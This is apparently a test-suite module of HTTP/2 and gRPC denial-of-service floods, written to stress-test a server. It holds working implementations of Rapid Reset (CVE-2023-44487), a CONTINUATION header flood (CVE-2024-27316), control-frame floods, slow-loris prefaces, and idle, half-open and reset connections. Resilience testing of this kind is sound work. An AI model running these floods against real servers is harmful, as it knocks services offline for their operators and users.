"""Floods of frames, streams and connections. Each function returns what it sent, in words."""

import contextlib
import random
import socket
import struct
import time
from collections.abc import Callable, Iterator
from contextlib import suppress

from tests.attacks.http2 import (
    CLASSIFY,
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    GET_MODEL,
    HEADERS,
    PING,
    PREFACE,
    PRIORITY,
    RST_STREAM,
    SETTINGS,
    WINDOW_UPDATE,
    Connection,
    ConnectionEnded,
    Target,
    frame,
    grpc_prefix,
    header_block,
)

BATCH = 200


def _paced(target: Target, count: int, seconds: float, batch_of: Callable[[Connection, int], bytes]) -> tuple[int, int]:
    """Sends `count` items in batches, spread over `seconds`; opens another connection when the server ends one.

    Returns:
        Items sent, and connections used. Fewer than `count` items are sent if the server takes them more slowly.
    """
    sent = connections = 0
    began = time.monotonic()
    while sent < count and time.monotonic() < began + seconds:
        try:
            with Connection(target) as connection:
                connections += 1
                while sent < count and (elapsed := time.monotonic() - began) < seconds:
                    connection.discard()
                    if sent > count * elapsed / seconds:
                        time.sleep(0.005)
                        continue
                    connection.send(batch_of(connection, BATCH))
                    sent += BATCH
        except ConnectionEnded:
            time.sleep(0.01)
    return sent, connections


def rapid_reset(target: Target, streams: int = 100_000, seconds: float = 5.0, method: str = CLASSIFY) -> str:
    """Opens streams and resets each at once (CVE-2023-44487)."""
    block = header_block(target, method)
    cancel = struct.pack(">I", 8)

    def batch(connection: Connection, size: int) -> bytes:
        parts = []
        for _ in range(size):
            stream = connection.new_stream()
            del connection.stream_windows[stream]
            parts += [frame(HEADERS, END_HEADERS, stream, block), frame(RST_STREAM, 0, stream, cancel)]
        return b"".join(parts)

    sent, connections = _paced(target, streams, seconds, batch)
    return f"{sent:,} streams opened and reset over {connections} connections"


def frames(target: Target, kind: str, count: int = 200_000, seconds: float = 3.0) -> str:
    """Many frames that cost the server an answer or some bookkeeping; `kind` is a key of `FRAMES`."""
    flood = FRAMES[kind]
    sent, connections = _paced(target, count, seconds, lambda connection, size: flood(target, connection, size))
    return f"{sent:,} {kind} over {connections} connections"


def _open_stream(target: Target, connection: Connection) -> int:
    """The stream that the frames of a flood belong to, opened before the first of them."""
    if not connection.stream_windows:
        stream = connection.new_stream()
        connection.send(frame(HEADERS, END_HEADERS, stream, header_block(target, CLASSIFY)))
    return next(iter(connection.stream_windows))


def _headers_without_end(target: Target, connection: Connection, size: int) -> bytes:
    """A header block that never ends (CVE-2024-27316 and others)."""
    if not connection.stream_windows:
        stream = connection.new_stream()
        connection.send(frame(HEADERS, 0, stream, header_block(target, CLASSIFY)))
    stream = next(iter(connection.stream_windows))
    literal = b"\x10\x01x\x7f\x81\x00" + b"v" * 256  # the never-indexed header x, with a value of 256 bytes
    return frame(CONTINUATION, 0, stream, literal) * (size // 10)


def _new_calls(target: Target, connection: Connection, size: int) -> bytes:
    """Calls without a body, as many as the server lets a connection have and more."""
    block = header_block(target, GET_MODEL)
    parts = []
    for _ in range(size // 10):
        stream = connection.new_stream()
        parts.append(frame(HEADERS, END_HEADERS, stream, block))
        parts.append(frame(DATA, END_STREAM, stream, grpc_prefix(0)))
    return b"".join(parts)


FRAMES: dict[str, Callable[[Target, Connection, int], bytes]] = {
    "PING frames": lambda _, __, size: frame(PING, 0, 0, bytes(8)) * size,
    "SETTINGS frames": lambda _, __, size: frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65_535)) * size,
    "PRIORITY frames": lambda _, __, size: b"".join(
        frame(PRIORITY, 0, 2 * number + 1, struct.pack(">IB", 0, 16)) for number in range(size)
    ),
    "empty DATA frames": lambda target, connection, size: frame(DATA, 0, _open_stream(target, connection), b"") * size,
    "WINDOW_UPDATE frames": lambda _, __, size: frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) * size,
    "CONTINUATION frames": _headers_without_end,
    "unknown frames": lambda _, __, size: frame(200, 255, 0, b"?" * 64) * size,
    "calls": _new_calls,
}


def large_metadata(target: Target, size: int = 2**20, calls: int = 200) -> str:
    """Calls whose metadata are larger than any server needs."""
    block = header_block(target, GET_MODEL, (("x-large", "v" * size),))
    pieces = [block[start : start + 16_384] for start in range(0, len(block), 16_384)]
    ended = 0
    for _ in range(calls):
        with suppress(ConnectionEnded), Connection(target) as connection:
            stream = connection.new_stream()
            connection.send(frame(HEADERS, END_STREAM, stream, pieces[0]))
            for piece in pieces[1:-1]:
                connection.send(frame(CONTINUATION, 0, stream, piece))
            connection.send(frame(CONTINUATION, END_HEADERS, stream, pieces[-1]))
            while not connection.received.ended and connection.receive(1.0):
                pass
            ended += len(connection.received.ended)
    return f"{calls} calls with {size:,} bytes of metadata, {ended} answered"


def garbage(target: Target, connections: int = 200, seed: int = 0) -> str:
    """Random bytes, alone and after a correct beginning."""
    generator = random.Random(seed)
    for number in range(connections):
        with suppress(ConnectionEnded, OSError), target.connect() as connection:
            beginning = PREFACE + frame(SETTINGS, 0, 0, b"") if number % 2 else b""
            connection.sendall(beginning + generator.randbytes(generator.randrange(1, 20_000)))
    return f"{connections} connections with random bytes"


@contextlib.contextmanager
def idle_connections(target: Target, count: int = 1000, first: bytes = b"") -> Iterator[list[socket.socket]]:
    """TCP connections that send `first` and then nothing, for the length of a `with`."""
    with contextlib.ExitStack() as stack:
        opened = []
        for _ in range(count):
            with suppress(ConnectionEnded, OSError):
                connection = stack.enter_context(target.connect())
                connection.sendall(first)
                opened.append(connection)
        yield opened


def hold_idle_connections(target: Target, count: int = 1000, seconds: float = 3.0, first: bytes = b"") -> str:
    """Holds idle connections for a time."""
    with idle_connections(target, count, first) as opened:
        time.sleep(seconds)
    return f"{len(opened)} of {count} idle connections held for {seconds:g} s"


def slow_prefaces(target: Target, connections: int = 100, seconds: float = 5.0) -> str:
    """Sends the first bytes of HTTP/2 one at a time (slow loris)."""
    beginning = PREFACE + frame(SETTINGS, 0, 0, b"")
    pause = seconds / len(beginning)
    with idle_connections(target, connections) as opened:
        for byte in beginning:
            for connection in opened:
                with suppress(OSError):
                    connection.sendall(bytes([byte]))
            time.sleep(pause)
    return f"{len(opened)} connections that took {seconds:g} s for the preface"


def half_open(target: Target, connections: int = 200, seconds: float = 3.0) -> str:
    """Begins a call over each connection and closes the sending side in its middle."""
    block = header_block(target, CLASSIFY)
    call = PREFACE + frame(SETTINGS, 0, 0, b"") + frame(HEADERS, END_HEADERS, 1, block)
    with idle_connections(target, connections, call + frame(DATA, 0, 1, grpc_prefix(3074) + bytes(1000))) as opened:
        for connection in opened:
            with suppress(OSError):
                connection.shutdown(socket.SHUT_WR)
        time.sleep(seconds)
    return f"{len(opened)} half-open connections held for {seconds:g} s"


def vanish(target: Target, connections: int = 200) -> str:
    """Begins a call over each connection and ends the connection with a TCP reset."""
    block = header_block(target, CLASSIFY)
    call = PREFACE + frame(SETTINGS, 0, 0, b"") + frame(HEADERS, END_HEADERS, 1, block)
    linger = struct.pack("ii", 1, 0)
    for _ in range(connections):
        with suppress(ConnectionEnded, OSError), target.connect() as connection:
            connection.sendall(call + frame(DATA, 0, 1, grpc_prefix(3074) + bytes(1000)))
            connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, linger)
    return f"{connections} connections reset in the middle of a call"
